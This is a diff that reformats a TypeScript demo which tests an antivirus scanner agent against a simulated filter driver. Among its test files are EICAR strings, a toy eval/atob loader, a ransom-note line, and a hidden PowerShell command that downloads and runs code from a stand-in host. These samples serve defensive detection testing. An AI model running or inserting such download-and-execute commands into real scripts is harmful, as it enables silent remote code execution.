@@ -46,20 +46,76 @@ async function until(what: string, predicate: () => boolean, timeoutMs = 15_000)
   }
 }
 
-function makeFiles(dir: string): Array<{ name: string; content: Buffer; expected: 'allowed' | 'blocked'; note: string }> {
+function makeFiles(
+  dir: string,
+): Array<{ name: string; content: Buffer; expected: 'allowed' | 'blocked'; note: string }> {
   const pad = (n: number): Buffer => Buffer.alloc(n, 0x20);
   const files = [
     { name: 'hello.txt', content: Buffer.from('Hello, world.\n'), expected: 'allowed' as const, note: 'clean text' },
-    { name: 'setup.exe', content: Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), pad(200), Buffer.from('This program cannot be run in DOS mode.')]), expected: 'allowed' as const, note: 'clean executable' },
-    { name: 'build.cmd', content: Buffer.from('@echo off\r\nnpm run build\r\n'), expected: 'allowed' as const, note: 'clean script' },
-    { name: 'app.js', content: Buffer.from('console.log("ok");\n'), expected: 'allowed' as const, note: 'clean script' },
-    { name: 'eicar.com', content: EICAR, expected: 'blocked' as const, note: 'EICAR (.com added by the agent\'s SET_CONFIG)' },
-    { name: 'report.txt', content: Buffer.concat([Buffer.from('quarterly figures\n'), pad(300), EICAR, pad(10)]), expected: 'blocked' as const, note: 'EICAR inside the first 1024 bytes' },
-    { name: 'loader.js', content: Buffer.from('var p="aGk=";eval(atob(p));\n'), expected: 'blocked' as const, note: 'toy signature' },
-    { name: 'README.txt', content: Buffer.from('YOUR FILES HAVE BEEN ENCRYPTED. Send 1 BTC to ...\n'), expected: 'blocked' as const, note: 'toy signature' },
-    { name: 'update.ps1', content: Buffer.from('powershell -w hidden -c iex(iwr http://example.invalid/x)\n'), expected: 'blocked' as const, note: 'toy signature' },
-    { name: 'photo.png', content: Buffer.concat([Buffer.from('\x89PNG\r\n', 'latin1'), EICAR]), expected: 'allowed' as const, note: 'not scanned: .png is not configured' },
-    { name: 'late.txt', content: Buffer.concat([pad(2000), EICAR]), expected: 'allowed' as const, note: 'EICAR after the first 1024 bytes: not seen' },
+    {
+      name: 'setup.exe',
+      content: Buffer.concat([
+        Buffer.from('MZ\x90\x00', 'latin1'),
+        pad(200),
+        Buffer.from('This program cannot be run in DOS mode.'),
+      ]),
+      expected: 'allowed' as const,
+      note: 'clean executable',
+    },
+    {
+      name: 'build.cmd',
+      content: Buffer.from('@echo off\r\nnpm run build\r\n'),
+      expected: 'allowed' as const,
+      note: 'clean script',
+    },
+    {
+      name: 'app.js',
+      content: Buffer.from('console.log("ok");\n'),
+      expected: 'allowed' as const,
+      note: 'clean script',
+    },
+    {
+      name: 'eicar.com',
+      content: EICAR,
+      expected: 'blocked' as const,
+      note: "EICAR (.com added by the agent's SET_CONFIG)",
+    },
+    {
+      name: 'report.txt',
+      content: Buffer.concat([Buffer.from('quarterly figures\n'), pad(300), EICAR, pad(10)]),
+      expected: 'blocked' as const,
+      note: 'EICAR inside the first 1024 bytes',
+    },
+    {
+      name: 'loader.js',
+      content: Buffer.from('var p="aGk=";eval(atob(p));\n'),
+      expected: 'blocked' as const,
+      note: 'toy signature',
+    },
+    {
+      name: 'README.txt',
+      content: Buffer.from('YOUR FILES HAVE BEEN ENCRYPTED. Send 1 BTC to ...\n'),
+      expected: 'blocked' as const,
+      note: 'toy signature',
+    },
+    {
+      name: 'update.ps1',
+      content: Buffer.from('powershell -w hidden -c iex(iwr http://example.invalid/x)\n'),
+      expected: 'blocked' as const,
+      note: 'toy signature',
+    },
+    {
+      name: 'photo.png',
+      content: Buffer.concat([Buffer.from('\x89PNG\r\n', 'latin1'), EICAR]),
+      expected: 'allowed' as const,
+      note: 'not scanned: .png is not configured',
+    },
+    {
+      name: 'late.txt',
+      content: Buffer.concat([pad(2000), EICAR]),
+      expected: 'allowed' as const,
+      note: 'EICAR after the first 1024 bytes: not seen',
+    },
   ];
   for (const f of files) writeFileSync(join(dir, f.name), f.content);
   return files;
@@ -76,7 +132,11 @@ function printTable(rows: Row[]): void {
     r.note,
   ]);
   const widths = header.map((h, i) => Math.max(h.length, ...cells.map((c) => (c[i] as string).length)));
-  const line = (c: string[]): string => c.map((v, i) => v.padEnd(widths[i] as number)).join('  ').trimEnd();
+  const line = (c: string[]): string =>
+    c
+      .map((v, i) => v.padEnd(widths[i] as number))
+      .join('  ')
+      .trimEnd();
   console.log(line(header));
   console.log(widths.map((w) => '-'.repeat(w)).join('  '));
   for (const [i, c] of cells.entries()) {
@@ -101,17 +161,31 @@ async function main(): Promise<number> {
 
     // 2. Start the agent as its own process. It asks for .com files to be scanned too (SET_CONFIG).
     const { command, args } = agentCommand();
-    agent = spawn(command, [...args, '--concurrency', '4', '--extensions', [...P.DEFAULT_EXTENSIONS, 'com'].join(','), '--timeout-ms', '3000'], {
-      env: { ...process.env, FLTMGR_SIMULATOR: endpoint },
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
+    agent = spawn(
+      command,
+      [
+        ...args,
+        '--concurrency',
+        '4',
+        '--extensions',
+        [...P.DEFAULT_EXTENSIONS, 'com'].join(','),
+        '--timeout-ms',
+        '3000',
+      ],
+      {
+        env: { ...process.env, FLTMGR_SIMULATOR: endpoint },
+        stdio: ['ignore', 'pipe', 'pipe'],
+      },
+    );
     const agentOutput: string[] = [];
     agent.stdout?.setEncoding('utf8').on('data', (text: string) => agentOutput.push(text));
     agent.stderr?.setEncoding('utf8').on('data', (text: string) => agentOutput.push(text));
     const agentPid = agent.pid ?? 0;
     const t = twin;
-    await until('the scanner agent to connect and configure the driver', () =>
-      t.stats().scannerConnections === 1 && t.configuration.extensions.includes('com'));
+    await until(
+      'the scanner agent to connect and configure the driver',
+      () => t.stats().scannerConnections === 1 && t.configuration.extensions.includes('com'),
+    );
     console.log(`scanner agent running as pid ${agentPid}\n`);
 
     // 3. Open every file as this process (not a scanner: its opens are scanned).
@@ -123,7 +197,9 @@ async function main(): Promise<number> {
     // The agent's own opens are never scanned, or it would wait for itself.
     const eicarPath = join(dir, 'eicar.com');
     rows.push({
-      file: 'eicar.com', openedBy: `agent (${agentPid})`, expected: 'allowed',
+      file: 'eicar.com',
+      openedBy: `agent (${agentPid})`,
+      expected: 'allowed',
       result: await twin.openFile({ path: eicarPath, content: readFileSync(eicarPath), processId: agentPid }),
       note: "the scanner's own process is excluded",
     });
@@ -133,7 +209,9 @@ async function main(): Promise<number> {
     const [code] = (await once(agent, 'exit')) as [number | null];
     if (code !== 0) throw new Error(`the agent exited with ${code}:\n${agentOutput.join('')}`);
     rows.push({
-      file: 'eicar.com', openedBy: `demo (${process.pid})`, expected: 'allowed',
+      file: 'eicar.com',
+      openedBy: `demo (${process.pid})`,
+      expected: 'allowed',
       result: await twin.openFile({ path: eicarPath, content: readFileSync(eicarPath), processId: process.pid }),
       note: 'no agent, fail-open (the default)',
     });
@@ -141,7 +219,9 @@ async function main(): Promise<number> {
     await P.setConfig(commands, { ...(await P.getConfig(commands)), failClosed: true });
     const helloPath = join(dir, 'hello.txt');
     rows.push({
-      file: 'hello.txt', openedBy: `demo (${process.pid})`, expected: 'blocked',
+      file: 'hello.txt',
+      openedBy: `demo (${process.pid})`,
+      expected: 'blocked',
       result: await twin.openFile({ path: helloPath, content: readFileSync(helloPath), processId: process.pid }),
       note: 'no agent, fail-closed (SET_CONFIG)',
     });
@@ -162,7 +242,9 @@ async function main(): Promise<number> {
   const wrong = rows.filter((r) => r.result.allowed !== (r.expected === 'allowed'));
   const leaked = twin.stats();
   if (leaked.poolAllocations !== 0n) console.log(`driver leaked ${leaked.poolAllocations} pool allocations`);
-  console.log(`\n${rows.length - wrong.length}/${rows.length} verdicts as expected; unloaded cleanly: ${leaked.poolAllocations === 0n ? 'yes' : 'NO'} (${Date.now() - started} ms)`);
+  console.log(
+    `\n${rows.length - wrong.length}/${rows.length} verdicts as expected; unloaded cleanly: ${leaked.poolAllocations === 0n ? 'yes' : 'NO'} (${Date.now() - started} ms)`,
+  );
   return wrong.length === 0 && leaked.poolAllocations === 0n ? 0 : 1;
 }
 
